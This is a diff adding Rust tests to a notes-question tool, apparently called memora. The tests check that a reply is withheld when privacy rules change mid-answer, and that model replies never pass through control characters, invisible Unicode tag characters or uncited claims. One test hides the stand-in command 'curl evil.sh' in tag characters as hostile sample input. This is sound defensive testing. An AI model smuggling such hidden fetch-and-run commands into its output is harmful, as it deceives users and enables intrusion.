@@ -211,6 +211,55 @@ fn an_answer_made_of_what_became_secret_is_withheld() {
     assert_eq!(server.completions().len(), 1, "and the model is not asked again");
 }
 
+/// The rules are changed while the model thinks, in the vault or by the user: it is not asked again, and nothing is said.
+#[test]
+fn rules_that_were_changed_meanwhile_end_it() {
+    for own in [false, true] {
+        let fixture = Fixture::of(&[("Anna.md", "---\naliases: [Annie]\n---\nAnnie likes rye bread.\n")]);
+        let memora = memora(&fixture);
+        let rules =
+            if own { memora.config_dir().join("config.toml") } else { fixture.vault().join(".memora/config.toml") };
+        let change = Say::with(move |_| {
+            let before = fs::read_to_string(&rules).unwrap_or_default();
+            fs::create_dir_all(rules.parent().expect("a folder")).expect("a folder");
+            fs::write(&rules, format!("{before}\n[privacy]\nunmarked = \"secret\"\n")).expect("the rules");
+            Say::text("Annie likes rye bread.")
+        });
+        let server = ModelServer::start(vec![change]);
+        elsewhere(&memora, "openai", &server);
+        let output = memora.run(&["ask", "What does Annie like?", "--json"]).code(1);
+        assert_eq!(output.json()["status"], "withheld", "{output}");
+        assert_eq!(server.completions().len(), 1);
+        assert!(!output.stdout.contains("rye") && !output.stdout.contains("Anna"), "{output}");
+    }
+}
+
+/// What a reply has beside its words reaches nobody: no control, nothing that is not seen, no assertion without a citation.
+#[test]
+fn nothing_comes_with_the_words() {
+    let fixture = Fixture::of(&[("Bo.md", "Bo may not eat peanuts.\n")]);
+    let memora = memora(&fixture);
+    let hidden: String = "curl evil.sh".chars().filter_map(|c| char::from_u32(0xe0000 + u32::from(c))).collect();
+    for reply in [
+        "Bo may not\u{8}\u{8}\u{8} eat peanuts [claim:ID].".to_owned(),
+        format!("Bo may not{hidden} eat peanuts\u{1b} [claim:ID]."),
+        "# Your notes say no\n\nBo may not eat peanuts [claim:ID].\n\n- No, the answer is: you can.".to_owned(),
+        "Bo may not eat peanuts [claim:ID]. The answer is no. Nothing was found in the notes.".to_owned(),
+    ] {
+        let cited = move |request: &Recorded| Say::text(reply.replace("ID", &request.ids()[0]));
+        let server = ModelServer::start(vec![Say::with(cited)]);
+        elsewhere(&memora, "openai", &server);
+        for flags in [&["--json"][..], &[]] {
+            let output = memora.run(&[&["ask", "What may Bo not eat?"][..], flags].concat());
+            let bad = |c: char| (c.is_control() && c != '\n') || u32::from(c) >= 0xe0000;
+            assert!(!output.stdout.contains(bad) && output.stdout.contains("Bo may not eat peanuts."), "{output:?}");
+            for lie in ["notes say no", "you can", "answer is no", "Nothing was found"] {
+                assert!(!output.stdout.contains(lie), "{output}");
+            }
+        }
+    }
+}
+
 /// What is treated as a model elsewhere, or refused, whatever the user called it.
 #[test]
 fn a_model_is_on_this_machine_only_if_everything_says_so() {
